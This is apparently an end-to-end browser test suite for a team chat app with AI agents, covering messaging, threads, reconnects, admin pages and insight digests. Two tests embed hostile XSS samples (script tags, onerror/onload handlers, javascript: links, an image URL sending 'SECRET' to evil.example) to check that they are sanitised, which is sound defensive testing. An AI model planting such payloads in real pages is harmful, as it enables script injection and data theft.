// End-to-end tests of the web UI in headless Chromium against the real
// server: login, live delivery between two people, threads, reactions,
// resume after the server drops the socket, agents' cited messages, scopes
// with live preview, role-gated admin pages, digests with evidence links,
// and harmless rendering of hostile messages. Screenshots of the main views
// go to tests/artifacts/e2e/.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, launchBrowser, newPage, uiLogin, shot, PASSWORD } from './harness.js';

let server;
let browser;
let admin; // admin's token
const users = {}; // handle -> {id, token}
let war; // #war-room
let agent; // {id, handle, token}
let chunkId;
let agentMessage; // the agent's cited post

const DOC = `---
title: Sales pipeline Q3
department: sales
label: internal
tags: [pipeline, forecast]
---
# Pipeline

The V4 sensor deals in the northern region slipped by two weeks because the supplier
changed the housing. Three customers asked for a revised delivery date.

# Forecast

We still expect to close 14 deals this quarter if the supplier delivers by October.
`;

before(async () => {
  server = await startServer();
  admin = await server.login('admin');
  for (const [handle, role, name, dept] of [['lena', 'leader', 'Lena Leader', 'executive'], ['sam', 'member', 'Sam Seller', 'sales'], ['erin', 'member', 'Erin Engineer', 'engineering']]) {
    const u = await server.ok(admin, 'POST', '/users', { handle, role, display_name: name, department: dept, password: PASSWORD, clearance: 'confidential' });
    users[handle] = { id: u.id, token: await server.login(handle) };
  }
  war = await server.ok(admin, 'POST', '/channels', { name: 'war-room', visibility: 'public', topic: 'Cross-department risks and opportunities' });
  await server.ok(admin, 'POST', '/channels', { name: 'sales', visibility: 'public', topic: 'Pipeline and deals' });
  for (const h of ['lena', 'sam', 'erin']) await server.ok(users[h].token, 'POST', `/channels/${war.id}/join`);
  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: 'Morning all: the **V4** supplier update is in the sales channel.' });
  await server.ok(users.erin.token, 'POST', `/channels/${war.id}/messages`, { body: 'Thanks @sam, engineering will check the housing change today.' });
  // A document, a scope and an agent that cites it.
  const doc = await server.ok(admin, 'POST', '/documents?path=sales/pipeline-q3.md', undefined, { raw: DOC });
  const docId = doc.document?.id || doc.id || doc.document_id;
  const detail = await server.ok(admin, 'GET', `/documents/${docId}`);
  chunkId = detail.chunks[0].id;
  await server.ok(admin, 'POST', '/scopes', { name: 'dept-sales', departments: ['sales'], max_label: 'internal' });
  const spawned = await server.ok(admin, 'POST', '/agents', { template: 'sales-analyst', count: 1, scope: 'dept-sales', brain: 'extractive', channels: ['war-room'] });
  const a = spawned.agents[0];
  const tok = await server.ok(admin, 'POST', `/agents/${a.id}/token`);
  agent = { id: a.id, handle: a.handle, token: tok.access_token };
  agentMessage = await server.ok(agent.token, 'POST', `/channels/${war.id}/messages`, {
    body: 'Risk: the V4 deals in the north slipped two weeks after the supplier changed the housing; three customers want new dates.',
    citations: [chunkId], brain: 'extractive',
  });
  browser = await launchBrowser();
});

after(async () => {
  if (browser) await browser.close();
  if (server) await server.stop();
});

async function openWarRoom(page, handle) {
  await uiLogin(page, server.url, handle);
  await page.goto(`${server.url}/#/c/${war.id}`);
  await page.waitForSelector('.messages .msg');
}

function msg(page, text) {
  return page.locator('.messages .msg', { hasText: text });
}

test('a person logs in and sees channels, unread counts and the strict CSP', async () => {
  const page = await newPage(browser);
  const resp = await page.goto(server.url);
  const csp = resp.headers()['content-security-policy'];
  assert.match(csp, /script-src 'self'/);
  assert.match(csp, /img-src 'self'/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  await page.fill('#login-handle', 'sam');
  await page.fill('#login-password', 'wrong password');
  await page.click('button[type=submit]');
  await page.waitForSelector('.form-error:not([hidden])');
  await shot(page, '00-login');
  await page.fill('#login-password', PASSWORD);
  await page.click('button[type=submit]');
  await page.waitForSelector('.sidebar .channel-item[data-channel="war-room"]');
  await page.waitForSelector('.messages .msg');
  assert.equal(await page.locator('.admin-nav').count(), 0, 'members see no admin navigation');
  // sam is not in #sales: it is offered in Browse, not the sidebar.
  assert.equal(await page.locator('.sidebar .channel-item[data-channel="sales"]').count(), 0);
  await page.context().close();
});

test('a message posted in one browser appears live in another, with typing and unread counts', async () => {
  const a = await newPage(browser);
  const b = await newPage(browser);
  const c = await newPage(browser);
  await openWarRoom(a, 'sam');
  await openWarRoom(b, 'erin');
  await uiLogin(c, server.url, 'lena', PASSWORD, '#/mentions');
  await c.waitForSelector('.page-head h1:has-text("Mentions")');
  const text = `Live hello ${Date.now()}`;
  await a.fill('.composer-input', text);
  await b.waitForSelector('.typing:has-text("sam is typing")', { timeout: 5000 });
  await a.press('.composer-input', 'Enter');
  await msg(b, text).waitFor({ timeout: 5000 });
  assert.equal(await msg(a, text).count(), 1, 'the sender sees it once');
  assert.equal(await msg(b, text).count(), 1, 'the other person sees it once');
  assert.equal(await msg(a, 'engineering will check').locator('.mention.me').innerText(), '@sam', 'sam sees his mention marked');
  await shot(b, '01-channel');
  // lena is elsewhere: #war-room shows an unread badge, cleared when she opens it.
  await c.waitForSelector('.channel-item[data-channel="war-room"] .badge', { timeout: 5000 });
  await c.click('.channel-item[data-channel="war-room"]');
  await msg(c, text).waitFor();
  await c.waitForSelector('.channel-item[data-channel="war-room"] .badge', { state: 'detached' });
  await a.context().close();
  await b.context().close();
  await c.context().close();
});

test('a thread reply shows in the thread pane and as a reply count for others', async () => {
  const a = await newPage(browser);
  const b = await newPage(browser);
  await openWarRoom(a, 'erin');
  await openWarRoom(b, 'lena');
  const root = msg(a, 'Morning all');
  await root.hover();
  await root.locator('button[aria-label="Reply in thread"]').click();
  await a.waitForSelector('.pane .msg');
  await a.fill('.pane .composer-input', 'Engineering confirms: new housing passes the drop test.');
  await a.press('.pane .composer-input', 'Enter');
  await a.waitForSelector('.pane .msg:has-text("passes the drop test")');
  await msg(b, 'Morning all').locator('.replies:has-text("1 reply")').waitFor({ timeout: 5000 });
  await msg(b, 'Morning all').locator('.replies').click();
  await b.waitForSelector('.pane .msg:has-text("passes the drop test")');
  await shot(b, '02-thread');
  await a.context().close();
  await b.context().close();
});

test('a reaction is shown to everyone and can be taken back', async () => {
  const a = await newPage(browser);
  const b = await newPage(browser);
  await openWarRoom(a, 'sam');
  await openWarRoom(b, 'erin');
  const target = msg(a, 'engineering will check');
  await target.hover();
  await target.locator('button[aria-label="Add reaction"]').click();
  await a.click('.emoji-picker button:has-text("👍")');
  await msg(b, 'engineering will check').locator('.reaction:has-text("👍") .reaction-count:text("1")').waitFor({ timeout: 5000 });
  await msg(a, 'engineering will check').locator('.reaction.mine').click();
  await b.waitForFunction(() => ![...document.querySelectorAll('.messages .msg')].some((m) => m.textContent.includes('engineering will check') && m.querySelector('.reaction')), null, { timeout: 5000 });
  await a.context().close();
  await b.context().close();
});

test('a direct message and a new channel open from the sidebar', async () => {
  const a = await newPage(browser);
  await openWarRoom(a, 'sam');
  await a.click('button[aria-label="New direct message"]');
  await a.fill('dialog input[name="handle"]', 'erin');
  await a.press('dialog input[name="handle"]', 'Enter');
  await a.waitForSelector('.channel-title h1:text-is("erin")');
  await a.fill('.composer-input', 'Private word about the housing');
  await a.press('.composer-input', 'Enter');
  await msg(a, 'Private word about the housing').waitFor();
  assert.equal(await a.locator('.sidebar .channel-item[data-channel^="dm:"]').count(), 1);
  await a.click('button[aria-label="New channel"]');
  await a.fill('dialog input[name="name"]', 'launch-v4');
  await a.click('dialog button:has-text("Create")');
  await a.waitForSelector('.channel-title h1:text-is("launch-v4")');
  await a.waitForSelector('.sidebar .channel-item[data-channel="launch-v4"]');
  await a.context().close();
});

test('one can edit and delete one\'s own message', async () => {
  const a = await newPage(browser);
  await openWarRoom(a, 'sam');
  const text = `Typo mesage ${Date.now()}`;
  await a.fill('.composer-input', text);
  await a.press('.composer-input', 'Enter');
  await msg(a, text).waitFor();
  await a.press('.composer-input', 'ArrowUp');
  await a.fill('.edit-box', `${text} (fixed)`);
  await a.press('.edit-box', 'Enter');
  await msg(a, `${text} (fixed)`).locator('.msg-edited:visible').waitFor({ timeout: 5000 });
  await msg(a, `${text} (fixed)`).hover();
  await msg(a, `${text} (fixed)`).locator('button[aria-label="Delete message"]').click();
  await a.click('dialog .btn-danger');
  await a.waitForFunction((t) => ![...document.querySelectorAll('.msg-body')].some((b) => b.textContent.includes(t)), text, { timeout: 5000 });
  await a.context().close();
});

test('a post whose answer is lost is retried with the same idempotency key and stored once', async () => {
  // SECURITY-CASES 20: the server stores the first attempt, but the browser never
  // hears back; the UI retries with the same key and the server answers with
  // the stored message instead of storing a second one.
  const a = await newPage(browser);
  await openWarRoom(a, 'sam');
  const keys = [];
  let retried;
  const retry = new Promise((resolve) => { retried = resolve; });
  await a.route('**/api/v1/channels/*/messages', async (route) => {
    const req = route.request();
    if (req.method() !== 'POST') return route.continue();
    keys.push(JSON.parse(req.postData()).idempotency_key);
    if (keys.length === 1) {
      await route.fetch(); // reaches the server, which stores it ...
      return route.abort('connectionreset'); // ... and the answer is lost
    }
    await route.continue();
    return retried();
  });
  const text = `Retried once ${Date.now()}`;
  await a.fill('.composer-input', text);
  await a.press('.composer-input', 'Enter');
  // The live socket may show the stored message before the retry goes out.
  await Promise.race([retry, new Promise((_, reject) => setTimeout(() => reject(new Error('no retry within 10 s')), 10000))]);
  await msg(a, text).waitFor({ timeout: 10000 });
  await a.waitForTimeout(500);
  assert.equal(keys.length, 2, 'one retry after the lost answer');
  assert.ok(keys[0], 'the post carries an idempotency key');
  assert.equal(keys[1], keys[0], 'the retry reuses the key');
  const page = await server.ok(users.sam.token, 'GET', `/channels/${war.id}/messages?limit=50`);
  const items = Array.isArray(page) ? page : page.messages;
  assert.equal(items.filter((m) => m.body === text).length, 1, 'stored once');
  assert.equal(await msg(a, text).count(), 1, 'shown once');
  await a.context().close();
});

test('after the server drops the socket the client resumes with no gap and no duplicates', async () => {
  const b = await newPage(browser);
  await openWarRoom(b, 'erin');
  const before = Number(await b.evaluate(() => document.documentElement.dataset.connects));
  // An admin changing erin's clearance makes the server close her sockets (4003);
  // the messages below are posted while she is disconnected.
  await server.ok(admin, 'PATCH', `/users/${users.erin.id}`, { clearance: 'confidential' });
  const tag = `gap-${Date.now()}`;
  for (let i = 1; i <= 5; i += 1) {
    await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: `${tag} message ${i}` });
  }
  await b.waitForFunction((n) => Number(document.documentElement.dataset.connects) > n, before, { timeout: 15000 });
  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: `${tag} message 6` });
  await msg(b, `${tag} message 6`).waitFor({ timeout: 5000 });
  const seen = await b.$$eval('.messages .msg-body', (els, t) => els.map((e) => e.textContent).filter((x) => x.includes(t)), tag);
  assert.deepEqual(seen, [1, 2, 3, 4, 5, 6].map((i) => `${tag} message ${i}`));
  await b.context().close();
});

test('an agent\'s message shows persona, department and its citation with document and label', async () => {
  const page = await newPage(browser, { colorScheme: 'dark' });
  await openWarRoom(page, 'lena');
  const m = msg(page, 'slipped two weeks');
  await m.locator('.agent-badge').waitFor();
  assert.equal(await m.locator('.chip.dept').innerText(), 'sales');
  await m.locator('.citations-toggle').click();
  const card = m.locator(`.citation[data-chunk="${chunkId}"]`);
  await card.waitFor({ timeout: 5000 });
  assert.match(await card.innerText(), /sales\/pipeline-q3\.md/);
  assert.equal(await card.locator('.chip.label-internal').count(), 1);
  assert.match(await card.locator('.chunk-text').innerText(), /supplier/);
  await shot(page, '03-agent-citation-dark');
  await page.context().close();
});

test('scrolling up loads older messages, and a link to an old message loads the page around it', async () => {
  const ch = await server.ok(users.sam.token, 'POST', '/channels', { name: 'history', visibility: 'public' });
  await server.ok(users.erin.token, 'POST', `/channels/${ch.id}/join`);
  const ids = [];
  for (let i = 1; i <= 130; i += 1) {
    const who = i % 2 ? users.sam : users.erin;
    ids.push((await server.ok(who.token, 'POST', `/channels/${ch.id}/messages`, { body: `history ${i}` })).id);
  }
  const page = await newPage(browser);
  await uiLogin(page, server.url, 'erin', PASSWORD, `#/c/${ch.id}`);
  await msg(page, 'history 130').waitFor();
  assert.equal(await page.locator(`.msg[data-id="${ids[0]}"]`).count(), 0, 'the first message is not in the latest page');
  for (let i = 0; i < 10 && !(await page.locator('.channel-intro').count()); i += 1) {
    await page.evaluate(() => { document.querySelector('.scroller').scrollTop = 0; });
    await page.waitForTimeout(300);
  }
  await page.locator('.msg[data-id="' + ids[0] + '"]').waitFor({ timeout: 5000 });
  const bodies = await page.$$eval('.messages .msg-body', (els) => els.map((e) => e.textContent));
  assert.deepEqual(bodies, ids.map((_, i) => `history ${i + 1}`), 'every message once, in order');
  // A link to message 7 (an evidence link, say) from elsewhere: loaded around it and highlighted.
  await page.goto(`${server.url}/#/search`);
  await page.goto(`${server.url}/#/c/${ch.id}/m/${ids[6]}`);
  await page.waitForSelector(`.msg.highlight[data-id="${ids[6]}"]`);
  await page.waitForSelector('.jump-latest:not([hidden])');
  await page.click('.jump-latest');
  await msg(page, 'history 130').waitFor();
  // Alt+↓ from #history (sorted before #war-room) opens the next channel.
  await page.keyboard.press('Alt+ArrowDown');
  await page.waitForSelector('.channel-title h1:text-is("war-room")');
  await page.context().close();
});

test('a message with <script>, an external image and a javascript: link renders harmless', async () => {
  const page = await newPage(browser);
  await openWarRoom(page, 'erin');
  const hostile = 'Hostile <script>window.__pwned = 1</script> <img src="https://evil.example/x.png" onerror="window.__pwned = 2"> '
    + '![x](https://evil.example/?d=SECRET) [click](javascript:window.__pwned=3) <a href="#" onclick="window.__pwned=4">a</a>';
  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: hostile });
  const m = msg(page, 'Hostile');
  await m.waitFor({ timeout: 5000 });
  await m.locator('.msg-body a').first().click().catch(() => {});
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script ran');
  assert.equal(await m.locator('.msg-body script, .msg-body img, .msg-body [onerror], .msg-body [onclick]').count(), 0);
  assert.equal(await m.locator('.msg-body a[href^="javascript"]').count(), 0);
  assert.deepEqual(page.requests.filter((u) => !u.startsWith(server.url)), [], 'no request left the server');
  await page.context().close();
});

test('an admin creates a scope and sees its live preview', async () => {
  const page = await newPage(browser);
  await uiLogin(page, server.url, 'admin', PASSWORD, '#/admin/scopes');
  await page.waitForSelector('.scope-form');
  await page.fill('#scope-name', 'sales-forecast');
  await page.click('.chip-picker .pick[data-value="sales"]');
  await page.waitForFunction(() => document.querySelector('#preview-docs')?.textContent === '1', null, { timeout: 15000 });
  await page.waitForSelector('.preview .sample .chip.label-internal');
  await shot(page, '04-scopes');
  await page.click('#scope-save');
  await page.waitForSelector('.scope-item.active:has-text("sales-forecast")');
  const stored = await server.ok(admin, 'GET', '/scopes/sales-forecast');
  assert.deepEqual(stored.departments, ['sales']);
  await page.goto(`${server.url}/#/admin/agents`);
  const row = page.locator(`tr[data-agent="${agent.handle}"]`);
  await row.waitFor();
  await shot(page, '05-admin-agents');
  await row.locator('button:has-text("Pause")').click();
  await page.locator(`tr[data-agent="${agent.handle}"] .status-paused`).waitFor();
  assert.equal((await server.ok(admin, 'GET', `/agents/${agent.id}`)).status, 'paused');
  await page.locator(`tr[data-agent="${agent.handle}"] button:has-text("Resume")`).click();
  await page.locator(`tr[data-agent="${agent.handle}"] .status-active`).waitFor();
  await page.goto(`${server.url}/#/admin/dashboard`);
  await page.waitForSelector('.stats .stat-value');
  await server.ok(users.sam.token, 'POST', `/channels/${war.id}/messages`, { body: 'Dashboard tick' });
  await page.waitForSelector('.feed li a', { timeout: 5000 });
  await shot(page, '06-dashboard');
  await page.goto(`${server.url}/#/admin/documents`);
  await page.waitForSelector('.table td:has-text("sales/pipeline-q3.md")');
  await page.goto(`${server.url}/#/admin/users`);
  await page.waitForSelector('tr[data-user="sam"]');
  await page.context().close();
});

test('a member cannot open admin pages, and the server refuses the data', async () => {
  const page = await newPage(browser);
  await uiLogin(page, server.url, 'sam');
  for (const p of ['#/admin/scopes', '#/admin/agents', '#/admin/users', '#/digests']) {
    await page.goto(`${server.url}/${p}`);
    await page.waitForSelector('.empty h3:has-text("You do not have access")');
  }
  assert.equal(await page.locator('.admin-nav').count(), 0);
  for (const p of ['/scopes', '/agents', '/audit', '/documents', '/agents/templates']) {
    const r = await server.api(users.sam.token, 'GET', p);
    assert.equal(r.status, 403, `GET ${p} as a member`);
  }
  await page.context().close();
});

// Sales and engineering agents quoting their documents about the same supplier
// housing, in threads of #war-room: the kind of talk the insights job mines.
async function seedCrossDepartmentTalk() {
  const upload = async (path, body) => (await server.ok(admin, 'POST', `/documents?path=${path}`, undefined, { raw: body })).document_id;
  const firstChunk = async (id) => (await server.ok(admin, 'GET', `/documents/${id}`)).chunks[0].id;
  const sales = await firstChunk(await upload('sales/north.md', '---\ntitle: Northern region\ndepartment: sales\nlabel: internal\n---\n# North\n\nThe V4 sensor deals in the northern region slipped by two weeks because the supplier changed the housing. Three customers asked for a revised delivery date.\n'));
  const eng = await firstChunk(await upload('engineering/housing.md', '---\ntitle: Housing qualification\ndepartment: engineering\nlabel: internal\n---\n# Housing\n\nThe new V4 housing from the supplier fails the IP67 water test in 12 percent of units since September. Qualification of the housing is blocked until the supplier fixes the gasket.\n'));
  await server.ok(admin, 'POST', '/scopes', { name: 'dept-engineering', departments: ['engineering'], max_label: 'internal' });
  const spawn = async (template, scope) => {
    const r = await server.ok(admin, 'POST', '/agents', { template, count: 3, scope, brain: 'extractive', channels: ['war-room'] });
    return Promise.all(r.agents.map(async (a) => (await server.ok(admin, 'POST', `/agents/${a.id}/token`)).access_token));
  };
  const sellers = await spawn('sales-analyst', 'dept-sales');
  const engineers = await spawn('engineering-analyst', 'dept-engineering');
  for (let r = 0; r < 3; r += 1) {
    const root = await server.ok(sellers[r], 'POST', `/channels/${war.id}/messages`, { body: 'Flagging: "The V4 sensor deals in the northern region slipped by two weeks because the supplier changed the housing."', citations: [sales], brain: 'extractive' });
    await server.ok(engineers[r], 'POST', `/channels/${war.id}/messages`, { body: 'Our documents say: "The new V4 housing from the supplier fails the IP67 water test in 12 percent of units since September."', citations: [eng], brain: 'extractive', thread_root: root.id });
  }
}

test('a leader opens a digest and follows an evidence link to its message', async (t) => {
  const lena = users.lena.token;
  const list = await server.api(lena, 'GET', '/insights/digests');
  if (list.status === 404) {
    t.skip('the insights API (issue 5) is not on this server yet');
    return;
  }
  assert.equal(list.status, 200);
  await seedCrossDepartmentTalk();
  // A run over the last days covers the seeded conversation.
  const run = await server.api(lena, 'POST', '/insights/run', {});
  assert.equal(run.status, 201, `run: ${JSON.stringify(run.json)}`);
  const d = await server.ok(lena, 'GET', `/insights/digests/${run.json.id}`);
  const withEvidence = (d.insights || []).find((i) => (i.evidence || []).length);
  const page = await newPage(browser);
  await uiLogin(page, server.url, 'lena', PASSWORD, `#/digests/${d.id}`);
  await page.waitForSelector('.digest');
  await shot(page, '07c-digest-real');
  if (!withEvidence) {
    await page.context().close();
    t.skip('the digest of the seeded conversation has no insight with evidence');
    return;
  }
  const ev = withEvidence.evidence[0];
  for (const toggle of await page.locator('.insight .citations-toggle').all()) await toggle.click();
  await page.locator(`.evidence[data-message="${ev.message_id}"] a.evidence-link`).first().click();
  await page.waitForSelector(`.msg.highlight[data-id="${ev.message_id}"]`, { timeout: 10000 });
  assert.match(page.url(), new RegExp(`#/c/[\\w-]+/m/${ev.message_id}$`));
  await page.context().close();
});

// A digest as the insights API (issue 5) returns it, with hostile chart markup.
function sampleDigest() {
  const ev = (m, excerpt) => ({
    message_id: m.id, channel: 'war-room', channel_id: m.channel_id, author: m.author.handle, author_name: m.author.display_name,
    posted_at: m.created_at, excerpt, link: `#/c/${m.channel_id}/m/${m.id}`,
    citations: [{ document_path: 'sales/pipeline-q3.md', chunk_id: chunkId, quote: 'slipped by two weeks', label: 'internal' }],
  });
  const bars = [['sales', 42], ['engineering', 31], ['finance', 18], ['hr', 9]].map(([d, n], i) =>
    `<rect x="${10 + i * 70}" y="${120 - n * 2}" width="48" height="${n * 2}" fill="#6366f1"/><text x="${34 + i * 70}" y="138" text-anchor="middle" font-size="11">${d}</text>`).join('');
  return {
    id: 'd-2026-47', version: 1, period: { from: '2026-11-16T00:00:00Z', to: '2026-11-23T00:00:00Z' }, created_at: new Date().toISOString(),
    label: 'internal', redacted: false,
    insights: [
      { kind: 'risk', rank: 1, title: 'V4 deliveries slip after the housing change', summary: 'Sales sees slipped deals in the north while engineering is still qualifying the new supplier housing.', why: 'Three customers are waiting for new dates; the quarter forecast assumes October delivery.', departments: ['sales', 'engineering'], confidence: 0.82, trend: 'growing', label: 'internal', evidence: [ev(agentMessage, 'the V4 deals in the north slipped two weeks')] },
      { kind: 'opportunity', rank: 1, title: 'Offer early V4 units to waiting customers', summary: 'Engineering has qualified units from the old housing; sales could place them with the three waiting customers.', why: 'Keeps 14 deals in the quarter.', departments: ['sales', 'engineering'], confidence: 0.61, trend: 'new', label: 'internal', evidence: [ev(agentMessage, 'three customers want new dates')] },
    ],
    charts: {
      activity_svg: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 145" onload="window.__pwned=5"><script>window.__pwned=6</script><image href="https://evil.example/c.png" width="10" height="10"/>${bars}</svg>`,
      trend_svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 145"><polyline points="10,120 80,100 150,70 220,60 290,30" fill="none" stroke="#dc2626" stroke-width="3"/><polyline points="10,130 80,125 150,110 220,90 290,95" fill="none" stroke="#16a34a" stroke-width="3"/></svg>',
    },
  };
}

test('a leader reads a digest (API contract of issue 5, served by the test) and follows evidence to the message', async () => {
  const page = await newPage(browser);
  const d = sampleDigest();
  await page.route('**/api/v1/insights/digests', (r) => r.fulfill({ json: { digests: [{ id: d.id, version: 1, period: d.period, created_at: d.created_at, label: 'internal', redacted: false, counts: { risk: 1, opportunity: 1 } }] } }));
  await page.route(`**/api/v1/insights/digests/${d.id}`, (r) => r.fulfill({ json: d }));
  await uiLogin(page, server.url, 'lena', PASSWORD, '#/digests');
  await page.click(`.digest-card[data-digest="${d.id}"]`);
  await page.waitForSelector('.insight.is-risk');
  assert.equal(await page.locator('.chart svg').count(), 2, 'both charts drawn');
  assert.equal(await page.locator('.chart svg script, .chart svg image, .chart svg [onload]').count(), 0, 'chart markup sanitized');
  await page.locator('.insight.is-risk .citations-toggle').click();
  await page.locator('.insight.is-opportunity .citations-toggle').click();
  await shot(page, '07-digest');
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(page.requests.filter((u) => !u.startsWith(server.url)), []);
  await page.click(`.insight.is-risk .evidence[data-message="${agentMessage.id}"] a.evidence-link`);
  await page.waitForSelector(`.msg.highlight[data-id="${agentMessage.id}"]`, { timeout: 10000 });
  await shot(page, '07b-evidence-message');
  await page.context().close();
});

test('the digest page degrades to an empty state without the insights API', async () => {
  const page = await newPage(browser);
  await page.route('**/api/v1/insights/**', (r) => r.fulfill({ status: 404, json: { error: { code: 'not_found', message: 'route not found' } } }));
  await uiLogin(page, server.url, 'lena', PASSWORD, '#/digests');
  await page.waitForSelector('.empty h3:has-text("not available yet")');
  await page.context().close();
});

test('search finds a message and jumps to it; phone width keeps the app usable', async () => {
  const page = await newPage(browser, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
  await uiLogin(page, server.url, 'erin');
  await page.goto(`${server.url}/#/search?q=housing`);
  await page.waitForSelector('.result');
  await page.click('.result >> nth=0');
  await page.waitForSelector('.msg.highlight');
  await shot(page, '08-phone-result');
  if (await page.locator('.pane:not([hidden])').count()) await page.click('.pane button[aria-label="Close thread"]');
  await shot(page, '09-phone-channel');
  await page.click('.menu-btn');
  await page.waitForSelector('.nav-open .sidebar');
  await page.waitForTimeout(400); // the drawer slides in
  await shot(page, '10-phone-nav');
  await page.context().close();
});
